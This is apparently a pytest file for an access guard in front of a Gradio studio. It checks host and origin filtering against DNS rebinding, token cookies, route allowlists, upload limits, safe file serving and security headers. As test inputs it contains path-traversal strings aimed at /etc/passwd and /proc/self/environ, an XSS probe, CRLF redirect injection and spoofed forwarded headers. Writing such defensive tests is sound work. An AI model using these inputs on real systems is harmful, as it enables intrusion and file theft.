"""Who may ask the studio, for what, and how much; and what a page may reach, in a real browser."""

import asyncio
import base64
import hashlib
import http.server
import json
import os
import re
import socket
import stat
import subprocess
import sys
import threading
from collections import namedtuple
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from types import SimpleNamespace

import httpx
import pytest
import waiting

from souron.serve import access
from souron.studio.security import access as security
from souron.studio.security.access import Door, Guard, Refused
from souron.studio.shared import USER_ERROR

PORT = 7860
OWN = f"http://127.0.0.1:{PORT}"
FROM_HERE = {"origin": OWN, "sec-fetch-site": "same-origin"}


class Behind:
    """The application behind the guard: says what it was asked, or what it was told to say."""

    def __init__(self):
        self.asked, self.body = [], b""
        self.answer = (200, {"content-type": "application/json"}, b"{}")

    async def __call__(self, scope, receive, send):
        self.asked.append(scope)
        self.body, more = b"", True
        while more:
            message = await receive()
            if message["type"] == "http.disconnect":
                raise ConnectionError
            self.body += message.get("body", b"")
            more = message.get("more_body", False)
        status, headers, content = self.answer
        raw = [(name.encode(), value.encode()) for name, value in headers.items()]
        await send({"type": "http.response.start", "status": status, "headers": raw})
        await send({"type": "http.response.body", "body": content})


@pytest.fixture
def behind():
    return Behind()


@pytest.fixture
def place(tmp_path):
    folder = tmp_path / "gradio"
    folder.mkdir()
    return folder.resolve()


@pytest.fixture
def studio(behind, place):
    def make(**options):
        return Guard(behind, **{"port": PORT, "place": place, **options})

    return make


def ask(app, path, method="GET", *, base=OWN, **options) -> httpx.Response:
    async def go():
        transport = httpx.ASGITransport(app)
        async with httpx.AsyncClient(transport=transport, base_url=base) as client:
            return await client.request(method, path, **options)

    return run(go())


def asked_by_hand(app, path, method="GET", headers=(), parts=()) -> int:
    """The status for a path that no client would send so, and a body that never ends."""
    sent = []
    waiting = [{"type": "http.request", "body": part, "more_body": True} for part in parts]
    raw = {"host": f"127.0.0.1:{PORT}", **dict(headers)}
    scope = {
        "type": "http",
        "method": method,
        "path": path,
        "query_string": b"",
        "scheme": "http",
        "headers": [(n.encode(), v.encode()) for n, v in raw.items()],
    }

    async def receive():
        if waiting:
            return waiting.pop(0)
        return await asyncio.Event().wait()

    async def send(message):
        sent.append(message)

    run(app(scope, receive, send))
    return sent[0]["status"]


def run(coroutine):
    """In a thread of its own: a browser's fixture keeps an event loop in this one."""
    with ThreadPoolExecutor(1) as pool:
        return pool.submit(asyncio.run, coroutine).result()


def post(app, path, content=b"{}", headers=FROM_HERE, **options) -> httpx.Response:
    return ask(app, path, "POST", content=content, headers=headers, **options)


# who may ask: the host


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "[::1]", "LOCALHOST"])
def test_the_studios_own_names(studio, behind, host):
    assert ask(studio(), "/en/", headers={"host": f"{host}:{PORT}"}).status_code == 200
    assert len(behind.asked) == 1


@pytest.mark.parametrize(
    "host",
    [
        "evil.example",
        f"evil.example:{PORT}",
        "127.0.0.1",
        "127.0.0.1:80",
        f"127.0.0.1.evil.example:{PORT}",
        f"localhost.:{PORT}",
        f"127.0.0.1:{PORT}.evil.example",
        f"localhost:{PORT}@evil.example",
        f"192.168.1.5:{PORT}",
        f"0.0.0.0:{PORT}",
        f"127.1:{PORT}",
        "",
        ":",
        "[::1]",
        f"::1:{PORT}",
    ],
)
def test_other_names_are_refused(studio, behind, host):
    """What a name that was made to lead here sends: DNS rebinding."""
    answer = ask(studio(), "/en/", headers={"host": host})
    assert answer.status_code == 421 and f"127.0.0.1:{PORT}" in answer.text
    assert behind.asked == []


def test_two_hosts_are_one_too_many(studio, behind):
    headers = [("host", f"127.0.0.1:{PORT}"), ("host", "evil.example")]
    assert ask(studio(), "/en/", headers=headers).status_code == 421
    assert behind.asked == []


def test_port_80_is_not_written(studio):
    assert ask(studio(port=80), "/en/", headers={"host": "localhost"}).status_code == 200
    assert ask(studio(port=80), "/en/", headers={"host": "localhost:80"}).status_code == 200
    assert ask(studio(port=80), "/en/", headers={"host": "evil.example"}).status_code == 421


def test_shared_on_the_network_it_has_the_computers_own_names_too(studio, monkeypatch):
    address = namedtuple("address", "address")
    wired = ("192.168.1.5", "52:54:00:12:34:56", "fe80::1%eth0", "2001:db8::5")
    found = {"lo": [address("127.0.0.1")], "eth0": list(map(address, wired))}
    monkeypatch.setattr(access.psutil, "net_if_addrs", lambda: found)
    monkeypatch.setattr(access.platform, "node", lambda: "Desk")
    assert access.addresses() == ["192.168.1.5", "[2001:db8::5]"]
    shared = studio(lan=True, token="secret")
    told = {"authorization": "Bearer secret"}
    for name in ("192.168.1.5", "[2001:db8::5]", "desk", "desk.local", "localhost"):
        assert ask(shared, "/en/", headers={"host": f"{name}:{PORT}", **told}).status_code == 200, name
    for name in ("192.168.1.6", "evil.example", "desk.evil.example"):
        assert ask(shared, "/en/", headers={"host": f"{name}:{PORT}", **told}).status_code == 421, name
    assert ask(studio(), "/en/", headers={"host": f"192.168.1.5:{PORT}"}).status_code == 421


def test_nobody_shares_without_a_token(studio):
    with pytest.raises(AssertionError, match="token"):
        studio(lan=True)


# who may ask: other sites


@pytest.mark.parametrize(
    "headers",
    [
        {"origin": "http://evil.example"},
        {"origin": "http://localhost:3000"},
        {"origin": "null"},
        {"origin": f"https://127.0.0.1:{PORT}"},
        {"origin": f"http://localhost:{PORT}"},
        {"origin": f"{OWN}.evil.example"},
        {"origin": "null", "sec-fetch-site": "cross-site"},
        {"sec-fetch-site": "cross-site"},
        {"sec-fetch-site": "same-site"},
        {"sec-fetch-site": "none"},
        {},
        {"origin": "http://evil.example", "sec-fetch-site": "same-origin"},
    ],
)
@pytest.mark.parametrize("path", ["run/predict", "upload"])
def test_nothing_is_written_from_elsewhere(studio, behind, headers, path):
    headers = {"content-type": "application/json", **headers}
    answer = post(studio(), f"/en/gradio_api/{path}", headers=headers)
    assert answer.status_code == 403
    assert answer.json()["detail"].startswith("[origin]")
    assert behind.asked == []


@pytest.mark.parametrize("headers", [FROM_HERE, {"origin": OWN}, {"origin": "null", "sec-fetch-site": "same-origin"}])
def test_the_studios_own_pages_write(studio, behind, headers):
    assert post(studio(), "/en/gradio_api/run/predict", b'{"data": []}', headers).status_code == 200
    assert behind.body == b'{"data": []}'


NO_PAGES = (
    "/en/gradio_api/app_id",
    "/en/gradio_api/upload_progress",
    "/en/assets/a.js",
    "/runs/a.html",
    "/favicon.ico",
)
READING = (("no-cors", "image"), ("cors", "empty"), ("navigate", "iframe"), ("no-cors", "script"))


@pytest.mark.parametrize("site", ["cross-site", "same-site"])
def test_other_sites_may_link_to_pages_and_read_nothing(studio, behind, site):
    link = {"sec-fetch-site": site, "sec-fetch-mode": "navigate", "sec-fetch-dest": "document"}
    for path in ("/en/", "/ja/train", "/en/train?system=resnet"):
        assert ask(studio(), path, headers=link).status_code == 200
    assert ask(studio(), "/", headers=link).status_code == 307
    behind.asked.clear()
    for path in NO_PAGES:
        assert ask(studio(), path, headers=link).status_code == 403
    for mode, dest in READING:
        read = {"sec-fetch-site": site, "sec-fetch-mode": mode, "sec-fetch-dest": dest}
        for path in ("/en/", "/", *NO_PAGES):
            assert ask(studio(), path, headers=read).status_code == 403, (mode, path)
    assert ask(studio(), "/en/", headers={"origin": "http://evil.example"}).status_code == 403
    assert behind.asked == []


def test_no_other_site_may_ask_beforehand(studio, behind):
    headers = {"origin": "http://evil.example", "access-control-request-method": "POST"}
    answer = ask(studio(), "/en/gradio_api/upload", "OPTIONS", headers=headers)
    assert answer.status_code == 403 and behind.asked == []
    assert not [name for name in answer.headers if name.startswith("access-control")]


def test_what_would_make_gradio_believe_to_be_elsewhere_is_dropped(studio, behind):
    headers = {
        "x-forwarded-host": "evil.example",
        "x-forwarded-proto": "https",
        "x-kept": "1",
        "forwarded": "host=evil.example",
        "x-gradio-server": "http://evil.example",
    }
    ask(studio(), "/en/", headers=headers)
    told = {name for name, _value in behind.asked[0]["headers"]}
    assert b"x-kept" in told and not any(b"forwarded" in n or b"gradio" in n for n in told)


def test_websockets_are_refused(studio, behind):
    sent = []

    async def go():
        async def receive():
            return {"type": "websocket.connect"}

        async def send(message):
            sent.append(message)

        await studio()({"type": "websocket", "path": "/en/", "headers": []}, receive, send)

    run(go())
    assert [message["type"] for message in sent] == ["websocket.close"] and behind.asked == []


# who may ask: the token


def test_with_a_token_everything_else_waits_for_it(studio, behind):
    shared = studio(token="s3cret")
    wrong = ("/en/?token=", "/en/?token=s3cre", "/en/?token=S3CRET", "/en/?Token=s3cret")
    for path in (
        "/",
        "/en",
        "/en/",
        "/en/train/",
        "/en/gradio_api/app_id",
        "/en/assets/a.js",
        "/favicon.ico",
        "/runs/a.html",
        "/nothing",
        *wrong,
    ):
        assert ask(shared, path).status_code == 401, path
    assert post(shared, "/en/gradio_api/run/predict").status_code == 401
    assert post(shared, "/en/gradio_api/run/predict?token=s3cret").status_code == 401
    assert ask(shared, "/en/", headers={"cookie": f"souron-{PORT}=wrong"}).status_code == 401
    assert ask(shared, "/en/", headers={"cookie": f"souron-{PORT}=é".encode()}).status_code == 401
    assert behind.asked == []


def test_the_token_becomes_a_cookie_and_leaves_the_address(studio):
    shared = studio(token="s3cret")
    answer = ask(shared, "/en/train?system=resnet&token=s3cret&data=a%26b")
    assert answer.status_code == 303
    assert answer.headers["location"] == "/en/train?system=resnet&data=a%26b"
    cookie = answer.headers["set-cookie"].lower()
    assert "httponly" in cookie and "samesite=strict" in cookie
    kept = {"cookie": answer.headers["set-cookie"].partition(";")[0]}
    assert ask(shared, "/en/", headers=kept).status_code == 200
    assert post(shared, "/en/gradio_api/run/predict", headers={**FROM_HERE, **kept}).status_code == 200
    assert answer.headers["cache-control"] == "no-store"
    assert answer.headers["referrer-policy"] == "no-referrer"


def test_the_token_leads_nowhere_else(studio):
    answer = ask(studio(token="s3cret"), f"{OWN}//evil.example/%0d%0aa:b?token=s3cret")
    assert answer.headers["location"].startswith("/evil.example/%0D%0A")


def test_a_browser_is_led_on_by_a_page(studio):
    answer = ask(studio(token="s3cret"), "/en/%22%3E?token=s3cret", headers={"accept": "text/html"})
    assert answer.status_code == 200 and "set-cookie" in answer.headers
    assert 'content="0;url=/en/%22%3E"' in answer.text


def test_door_for_a_server_of_programs():
    def check(headers, **options):
        raw = [(name.encode(), value.encode()) for name, value in headers.items()]
        scope = {
            "type": "http",
            "method": "POST",
            "path": "/predict",
            "query_string": b"",
            "headers": [(b"host", f"127.0.0.1:{PORT}".encode()), *raw],
        }
        return Door(PORT, **options).check(scope)

    assert check({}, programs=True) is None
    assert check({"authorization": "Bearer s3cret"}, programs=True, token="s3cret") is None
    for headers, options in [
        ({}, {}),
        ({"origin": "http://evil.example"}, {"programs": True}),
        ({"origin": "null"}, {"programs": True}),
        ({"sec-fetch-site": "cross-site"}, {"programs": True}),
        ({"authorization": "Bearer wrong"}, {"programs": True, "token": "s3cret"}),
    ]:
        with pytest.raises(Refused):
            check(headers, **options)


# what may be asked for


READ_NO_MORE = """
    config config/ gradio_api/startup-events
    monitoring monitoring/summary monitoring/key gradio_api/proxy=https://a.hf.space/x
    gradio_api/vibe-code gradio_api/vibe-code/ gradio_api/deep_link?session_hash=a gradio_api/runs
    gradio_api/run-history/records gradio_api/dev/reload gradio_api/openapi.json gradio_api/info
    gradio_api/user gradio_api/token gradio_api/login_check gradio_api/file/etc/passwd
    gradio_api/custom_component/a/client/b/c gradio_api/call/a/b gradio_api/mcp/sse
    gradio_api/profiling/traces gradio_api/heartbeat/a/b gradio_api login logout svelte/x.js
    robots.txt pwa_icon manifest.json docs openapi.json assets/../x assets/%2e%2e/x assets/..%2fx
    static/..\\x lecture unknown train/x trainx Train
    """
WRITTEN_NO_MORE = """
    train login config gradio_api/vibe-edit gradio_api/vibe-edit/ gradio_api/vibe-code
    gradio_api/undo-vibe-edit gradio_api/vibe-starter-queries gradio_api/process_recording
    gradio_api/component_server gradio_api/run-history/connect gradio_api/call/predict
    gradio_api/call/v2/predict
    gradio_api/api/predict gradio_api/run/other gradio_api/profiling/clear gradio_api/file=/tmp/x
    """


@pytest.mark.parametrize(
    ("method", "path"),
    [("GET", path) for path in READ_NO_MORE.split()]
    + [("POST", path) for path in ("", *WRITTEN_NO_MORE.split())]
    + [(method, "gradio_api/upload") for method in ("GET", "PUT", "DELETE", "PATCH", "OPTIONS")],
)
@pytest.mark.parametrize("app", ["en", "ja"])
def test_routes_that_a_private_studio_does_not_need_do_not_exist(studio, behind, app, method, path):
    answer = ask(studio(), f"/{app}/{path}", method, headers=FROM_HERE)
    assert answer.status_code == 404 and behind.asked == []


@pytest.mark.parametrize(
    "path",
    [
        "/fr/",
        "/gradio_api/upload",
        "/config",
        "/docs",
        "/en.html",
        "/runs",
        "/runs/../x",
        "/enx/",
        "/static/a/b.js",
        "/..",
        "",
        "/en/assets/../theme.css",
        "/en/../en/",
        "//",
        "/en/\n",
        "/en/train\n",
    ],
)
def test_nothing_else_exists_at_all(studio, behind, path):
    assert asked_by_hand(studio(), path) == 404 and behind.asked == []


def test_the_studios_own_routes(studio, behind):
    for path in (
        "/static/studio.js",
        "/favicon.ico",
        "/picture/resnet.svg",
        "/job/a/curve.png",
        "/runs/classify/cnn/report.html",
        "/export/classify/cnn.zip",
    ):
        assert ask(studio(), path).status_code == 200, path
    assert ask(studio(), "/other/x").status_code == 404


def test_own_answers_keep_their_policy_and_the_others_get_one(studio, behind):
    assert "sandbox" in ask(studio(), "/runs/a.html").headers["content-security-policy"]
    behind.answer = (200, {"content-security-policy": "default-src 'self'", "cache-control": "max-age=1"}, b"")
    answer = ask(studio(), "/runs/a.html")
    assert answer.headers["content-security-policy"] == "default-src 'self'"
    assert answer.headers["cache-control"] == "max-age=1"
    answer = ask(studio(), "/en/gradio_api/app_id")
    assert "sandbox" in answer.headers["content-security-policy"]
    assert answer.headers["cache-control"] == "no-store"


# which language


@pytest.mark.parametrize(
    ("accept", "language"),
    [
        ("ja", "ja"),
        ("ja-JP,ja;q=0.9,en;q=0.8", "ja"),
        ("en-GB,en;q=0.9,ja;q=0.8", "en"),
        ("", "en"),
        ("fr,de;q=0.5", "en"),
        ("fr, ja;q=0.3", "ja"),
        ("en;q=0.1, ja;q=0.2", "ja"),
        ("*", "en"),
        ("ja;q=0", "en"),
        ("ja;q=x,en;q=0.1", "en"),
        ("java", "en"),
    ],
)
def test_the_browsers_language_is_the_default(studio, accept, language):
    answer = ask(studio(), "/?a=1", headers={"accept-language": accept})
    assert answer.status_code == 307 and answer.headers["location"] == f"/{language}/?a=1"


def test_the_cookie_goes_before_the_browser_and_lang_before_both(studio):
    headers = {"accept-language": "en", "cookie": "language=ja"}
    assert ask(studio(), "/", headers=headers).headers["location"] == "/ja/"
    assert ask(studio(lang="en"), "/", headers=headers).headers["location"] == "/en/"
    headers["cookie"] = "language=//evil.example"
    assert ask(studio(), "/", headers=headers).headers["location"] == "/en/"


def test_messages_for_browsers_are_escaped(studio):
    path = "/%3Cscript%3Ealert(1)%3C/script%3E"
    answer = ask(studio(), path, headers={"accept": "text/html", "accept-language": "ja"})
    assert answer.status_code == 404 and "<script" not in answer.text and "&lt;script" in answer.text
    assert '<html lang="ja">' in answer.text and "sandbox" in answer.headers["content-security-policy"]
    assert ask(studio(), path).headers["content-type"].startswith("text/plain")


@pytest.mark.parametrize(
    ("path", "leads"),
    [
        ("/en", "/en/"),
        ("/ja", "/ja/"),
        ("/en/train/", "/en/train"),
        ("/ja/train//", "/ja/train"),
        ("/en/train/?system=a%20b", "/en/train?system=a%20b"),
    ],
)
def test_slashes_at_the_end(studio, behind, path, leads):
    answer = ask(studio(), path)
    assert answer.status_code == 307 and answer.headers["location"] == leads
    assert behind.asked == []


# how much


@pytest.mark.parametrize("title, status", [(USER_ERROR, 400), ("Error", 500), (None, 500)])
def test_what_a_person_can_mend_is_no_error_of_the_server(studio, behind, title, status):
    told = json.dumps({"error": "no file was given", "title": title}).encode()
    for content in (told, b"[", b"[1]"):
        behind.answer = (500, {"content-type": "application/json"}, content)
        answer = post(studio(), "/en/gradio_api/run/predict", b'{"data": []}')
        assert answer.status_code == (status if content == told else 500)
        assert answer.content == content


def test_bodies_are_bounded_by_route(studio, behind, monkeypatch):
    monkeypatch.setattr(security, "MOST_BYTES", 1000)
    small = studio(most_uploaded=5000)
    value = json.dumps({"data": ["x" * 990]}).encode()
    answer = post(small, "/en/gradio_api/run/predict", value)
    assert answer.status_code == 413 and behind.asked == []
    assert post(small, "/en/gradio_api/upload", b"x" * 5000).status_code == 200
    assert post(small, "/en/gradio_api/upload", b"x" * 5001).status_code == 413
    assert behind.body == b"x" * 5000


@pytest.mark.parametrize("length", [None, "10", "-5", "x"])
def test_what_says_a_smaller_length_than_it_has_is_cut_off(studio, length):
    async def parts():
        for _ in range(100):
            yield b"x" * 100

    headers = FROM_HERE if length is None else {**FROM_HERE, "content-length": length}
    small = studio(most_uploaded=5000)
    assert post(small, "/en/gradio_api/upload", parts(), headers).status_code == 413


# files


def test_only_files_that_gradio_keeps_are_served(studio, behind, place, tmp_path):
    (place / "hash").mkdir()
    (place / "hash/a b.png").write_bytes(b"1")
    (place / "hash/a..png").write_bytes(b"1")
    (place / "inner").symlink_to(place / "hash/a b.png")
    run = tmp_path / "runs/weights.safetensors"
    run.parent.mkdir()
    run.write_bytes(b"secret")
    (place / "link.png").symlink_to("/etc/passwd")
    (place / "folder").symlink_to(tmp_path / "runs")
    beside = tmp_path / "gradio2"
    beside.mkdir()
    (beside / "x").write_bytes(b"secret")
    for path in (place / "hash/a b.png", place / "hash/a..png", place / "inner"):
        assert ask(studio(), f"/en/gradio_api/file={path}").status_code == 200, path
    behind.asked.clear()
    leading_out = (run, place / "link.png", place / "folder/weights.safetensors", beside / "x")
    elsewhere = ("http://evil.example/x", "https://127.0.0.1/x", "file:///etc/passwd", "~/x")
    written_oddly = (
        "//etc/passwd",
        "etc/passwd",
        "",
        "%2Fetc%2Fpasswd",
        r"\\host\share\x",
        f"{place}/../runs/weights.safetensors",
        f"{place}/hash/a b.png\0",
    )
    no_files = (place, place / "hash", place / "missing.png", "/proc/self/environ", "/etc/passwd")
    for text in (*leading_out, *elsewhere, *written_oddly, *no_files):
        answer = ask(studio(), httpx.URL(f"{OWN}/en/gradio_api/file={text}".replace("\0", "%00")))
        assert answer.status_code == 404, text
    assert behind.asked == []


def shown(studio, behind, place, kind, **headers):
    (place / "a").write_bytes(b"1")
    behind.answer = (200, {"content-type": kind, **headers}, b"1")
    return ask(studio(), f"/en/gradio_api/file={place / 'a'}").headers


@pytest.mark.parametrize(
    "kind",
    [
        "text/html",
        "image/svg+xml",
        "application/xhtml+xml",
        "text/xml",
        "application/javascript",
        "text/javascript",
        "text/css",
        "application/pdf",
        "application/octet-stream",
        "",
    ],
)
def test_what_could_run_is_downloaded(studio, behind, place, kind):
    named = {"content-disposition": 'inline; filename="a.html"'}
    headers = shown(studio, behind, place, kind, **named)
    assert headers["content-type"] == "application/octet-stream"
    assert headers["content-disposition"] == 'attachment; filename="a.html"'
    assert headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in headers["content-security-policy"] and "script" not in headers["content-security-policy"]
    assert shown(studio, behind, place, kind)["content-disposition"] == "attachment"


@pytest.mark.parametrize("kind", ["image/png", "image/jpeg", "audio/wav", "video/mp4", "text/plain"])
def test_what_cannot_run_is_shown(studio, behind, place, kind):
    headers = shown(studio, behind, place, kind, **{"content-disposition": "inline"})
    assert headers["content-type"].startswith(kind) and headers["content-disposition"] == "inline"
    assert "sandbox" in headers["content-security-policy"]


def file_data(path, **more):
    return {"path": str(path), "meta": {"_type": "gradio.FileData"}, **more}


def test_handlers_are_given_files_that_gradio_keeps_alone(studio, behind, place):
    (place / "up.png").write_bytes(b"1")
    (place / "link.png").symlink_to("/etc/passwd")
    fine = {
        "data": [
            file_data(place / "up.png", url="http://127.0.0.1/x"),
            {"path": "/etc/passwd"},
            None,
            "http://evil.example",
            file_data(None),
            3,
        ]
    }
    fine["data"][4]["path"] = None
    assert post(studio(), "/en/gradio_api/run/predict", json.dumps(fine)).status_code == 200
    assert json.loads(behind.body) == fine
    behind.asked.clear()
    for text in (
        "/etc/passwd",
        "http://evil.example/a.png",
        "HTTPS://evil.example",
        "relative",
        place / "link.png",
        f"{place}/../x",
        "\0",
        "\\\\host\\x",
    ):
        for data in ([file_data(text)], {"a": [[{"b": file_data(text)}]]}, [{"image": file_data(text)}]):
            answer = post(studio(), "/en/gradio_api/run/predict", json.dumps({"data": data}))
            assert answer.status_code == 403 and "not uploaded" in answer.text, text
    assert behind.asked == []


def test_a_path_cannot_hide_from_the_guard_behind_its_kind(studio, behind):
    hidden = json.dumps({"data": [file_data("/etc/passwd")]}).replace("etc", "\\u0065tc").encode()
    for kind in ("application/json", "text/plain", "multipart/form-data; boundary=x", "application/x"):
        headers = {**FROM_HERE, "content-type": kind}
        answer = post(studio(), "/en/gradio_api/run/predict", hidden, headers)
        assert answer.status_code == 403
    for broken in (b"{", b"[" * 100_000, b"\xff", b"{}{}"):
        assert post(studio(), "/en/gradio_api/run/predict", broken).status_code == 400
    assert behind.asked == []


# pages


HTML = """<!doctype html><html><head>
<script>window.gradio_config = {"a": "本文"};</script>
<script type="module" crossorigin src="./assets/index.js"></script></head></html>"""


def test_only_the_scripts_that_stand_in_a_page_run(studio, behind):
    behind.answer = (200, {"content-type": "text/html; charset=utf-8"}, HTML.encode())
    answer = ask(studio(), "/ja/train")
    assert answer.text == HTML and "accept-encoding" not in dict(behind.asked[0]["headers"])
    parts = answer.headers["content-security-policy"].split(";")
    policy = dict(part.strip().split(" ", 1) for part in parts)
    script = HTML.partition("<script>")[2].partition("</script>")[0].encode()
    digest = base64.b64encode(hashlib.sha256(script).digest()).decode()
    assert policy["script-src"] == f"'self' 'sha256-{digest}' 'unsafe-eval'"
    assert policy["frame-ancestors"] == "'self'"
    for name, sources in policy.items():
        assert not re.search(r"https?:|\*|ws:", sources), name


def test_headers_of_pages(studio, behind):
    headers = ask(studio(), "/en/").headers
    wanted = {
        "referrer-policy": "no-referrer",
        "cache-control": "no-store",
        "x-content-type-options": "nosniff",
        "x-dns-prefetch-control": "off",
        "cross-origin-opener-policy": "same-origin",
        "cross-origin-resource-policy": "same-origin",
    }
    assert {name: headers[name] for name in wanted} == wanted
    assert "camera=(self)" in headers["permissions-policy"]
    assert "immutable" in ask(studio(), "/en/assets/a.js").headers["cache-control"]
    assert ask(studio(), "/static/studio.js").headers["cache-control"] == "no-cache"


# a real Gradio behind real servers


def drawn_page(gr):
    """A page with an event and an upload; the widgets have a test of their own behind the guard."""
    from souron.studio.app import directly

    with gr.Blocks(title="souron", analytics_enabled=False) as blocks:
        pass  # the first page is none of Gradio's
    with blocks.route("train", "/train", show_in_navbar=False):
        gr.HTML("<h1>First</h1>")
        text = gr.Textbox(label="text")
        length = gr.Textbox(label="length", elem_id="length")
        text.change(lambda text: str(len(text)), text, length, api_name="length")
        upload = gr.File(label="upload", file_count="multiple")
        names = gr.Textbox(label="names", elem_id="names")
        upload.upload(named, upload, names, api_name="names")
    with blocks.route("compare", "/compare", show_in_navbar=False):
        gr.HTML("<h1>Second</h1>")
    directly(blocks)
    return blocks


def named(files) -> str:
    return " ".join(sorted(Path(file).name for file in files))


def all_routes(app):
    for route in app.routes:
        yield from (all_routes(route.original_router) if hasattr(route, "original_router") else [route])


SERVERS = {"url": {"most_uploaded": 10**6}, "shared": {"token": "s3cret", "lan": True}}


def serve(folder: Path) -> None:
    """Gradio behind a guard of each kind and behind none, in this process; says where on stdout."""
    import uvicorn
    from fastapi import FastAPI

    told = {"place": str(security.prepare(folder / "temporary"))}
    import gradio as gr

    outer = FastAPI()
    outer.add_api_route("/favicon.ico", lambda: None, status_code=204)
    for language in ("en", "ja"):
        gr.mount_gradio_app(
            outer,
            drawn_page(gr),
            path=f"/{language}",
            root_path=f"/{language}",
            footer_links=[],
            run_history=False,
            ssr_mode=False,
            mcp_server=False,
            enable_monitoring=False,
            pwa=False,
            theme=gr.themes.Base(font=["system-ui", "sans-serif"], font_mono=["monospace"]),
        )
    mounted = next(route.app for route in outer.routes if getattr(route, "path", "") == "/en")
    told["routes"] = [(method, route.path) for route in all_routes(mounted) for method in route.methods]
    servers = []
    for name, options in {**SERVERS, "bare": None}.items():
        listens = socket.socket()
        listens.bind(("127.0.0.1", 0))
        port = listens.getsockname()[1]
        app = outer if options is None else Guard(outer, port=port, **options)
        config = uvicorn.Config(
            app, log_level="error", ws="none", proxy_headers=False, lifespan="off" if servers else "on"
        )
        servers.append((uvicorn.Server(config), listens))
        told[name] = f"http://127.0.0.1:{port}"
        told[f"{name}_port"] = port

    async def go():
        running = [asyncio.ensure_future(server.serve([listens])) for server, listens in servers]
        while not all(server.started for server, _listens in servers) and not any(one.done() for one in running):
            await asyncio.sleep(0.02)
        print(json.dumps(told), flush=True)
        await asyncio.gather(*running)

    asyncio.run(go())


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    """What ``serve`` says, from a process of its own: Gradio leaves much behind."""
    folder = tmp_path_factory.mktemp("served")
    process = subprocess.Popen([sys.executable, __file__, str(folder)], stdout=subprocess.PIPE)
    line = process.stdout.readline()
    yield SimpleNamespace(**json.loads(line), folder=folder)
    process.terminate()
    process.wait(waiting.LIMIT)
    process.stdout.close()


@pytest.fixture
def client(served):
    headers = {"origin": served.url, "sec-fetch-site": "same-origin"}
    with httpx.Client(base_url=served.url, headers=headers) as client:
        yield client


def happens(client, name: str, data: list) -> dict:
    """What a page asks with an event, and what comes of it."""
    config = client.get("/en/train").text.partition("window.gradio_config = ")[2].partition(";</script>")[0]
    [which] = [d["id"] for d in json.loads(config)["dependencies"] if d["api_name"] == name]
    asked = {"data": data, "fn_index": which, "session_hash": "abc", "event_data": None, "trigger_id": None}
    answer = client.post("/en/gradio_api/run/predict", json=asked)
    answer.raise_for_status()
    return answer.json()


def uploaded(client, content=b"1", name="a.txt") -> str:
    answer = client.post("/en/gradio_api/upload", files={"files": (name, content)})
    answer.raise_for_status()
    return answer.json()[0]


def test_gradio_alone_would_give_away_any_file(served, tmp_path):
    """Mounted in an application, Gradio does not check what files its handlers are given. Once it
    does, this fails, and the guard's own check is one of two."""
    (tmp_path / "secret.txt").write_text("secret")
    with httpx.Client(base_url=served.bare) as client:
        done = happens(client, "names", [[file_data(tmp_path / "secret.txt")]])
        assert done["data"] == ["secret.txt"]
        [kept] = Path(served.place).glob("*/secret.txt")
        assert client.get(f"/en/gradio_api/file={kept}").text == "secret"


def test_events_and_uploads_work_behind_the_guard(client, served):
    path = uploaded(client)
    assert Path(path).is_relative_to(served.place)
    done = happens(client, "names", [[file_data(path)]])
    assert done["data"] == ["a.txt"]
    assert client.get(f"/en/gradio_api/file={path}").text == "1"


def test_no_file_of_the_computer_reaches_a_handler(client, served):
    for path in (Path(__file__).resolve(), "/etc/passwd", f"{served.place}/../a.csv"):
        with pytest.raises(httpx.HTTPStatusError, match="403"):
            happens(client, "names", [[file_data(path)]])
        assert client.get(f"/en/gradio_api/file={path}").status_code == 404


def test_pages_of_gradio_load_nothing_from_elsewhere(client, served):
    """What a policy would not stop: connections that are made ahead. The picture of a preview,
    which nothing loads, is the only address."""
    for path in ("/en/train", "/ja/train", "/en/compare", "/ja/compare"):
        page = client.get(path)
        assert page.status_code == 200 and "gradio_config" in page.text
        tags = re.findall(r"<(?:link|script|img|iframe|base)\b[^>]*>", page.text)
        assert tags and not [tag for tag in tags if re.search(r"(?:https?:)?//[\w.]", tag)], path


LEFT = {
    "GET /",
    "HEAD /",
    "GET /compare",
    "GET /train",
    "GET /theme.css",
    "GET /assets/{path:path}",
    "GET /static/{path:path}",
    "GET /gradio_api/app_id",
    "GET /gradio_api/heartbeat/{session_hash}",
    "POST /gradio_api/run/{api_name}",
    "POST /gradio_api/run/{api_name}/",
    "POST /gradio_api/upload",
    "GET /gradio_api/upload_progress",
    "GET /gradio_api/file={path_or_url:path}",
    "HEAD /gradio_api/file={path_or_url:path}",
}


def test_the_routes_of_gradio_that_are_left(served):
    """A new release of Gradio may bring routes; these were looked at."""
    left = {
        f"{method} {path}"
        for method, path in served.routes
        if security.find_route("/en" + re.sub(r"\{[^}]*\}", "predict", path), method)
    }
    assert left == LEFT


def test_prepare_makes_a_private_folder_and_forgets_those_of_the_dead(tmp_path, monkeypatch):
    ended = subprocess.Popen([sys.executable, "-c", ""])
    ended.wait()
    (tmp_path / f"gradio-{ended.pid}-x").mkdir()
    (tmp_path / "gradio-x-y").mkdir()
    monkeypatch.setattr(os, "environ", {"GRADIO_ALLOWED_PATHS": "/"})
    folder = security.prepare(tmp_path)
    assert os.environ["GRADIO_TEMP_DIR"] == str(folder)
    assert "GRADIO_ALLOWED_PATHS" not in os.environ
    assert os.environ["GRADIO_ANALYTICS_ENABLED"] == "False" and os.environ["HF_HUB_OFFLINE"] == "1"
    other = security.prepare(tmp_path)
    assert {p.name for p in tmp_path.glob("gradio-*")} == {folder.name, other.name, "gradio-x-y"}
    if os.name != "nt":
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700


# a real browser


@pytest.fixture(scope="module")
def browser():
    """Chromium, which finds this computer and no other; ``rebind.example`` is made to lead here."""
    from playwright.sync_api import sync_playwright

    rules = "MAP rebind.example 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost"
    with sync_playwright() as play:
        chromium = play.chromium.launch(
            executable_path="/usr/bin/chromium",
            args=["--no-sandbox", "--disable-gpu", "--disable-background-networking", f"--host-resolver-rules={rules}"],
        )
        yield chromium
        chromium.close()


@pytest.fixture
def page(browser):
    """A page; ``asked``: all addresses that it asked for, ``said``: what stands on its console."""
    page = browser.new_page()
    page.asked, page.answered, page.said = [], [], []
    page.on("request", lambda request: page.asked.append(request.url))
    page.on("response", lambda answer: page.answered.append((answer.url, answer.status)))
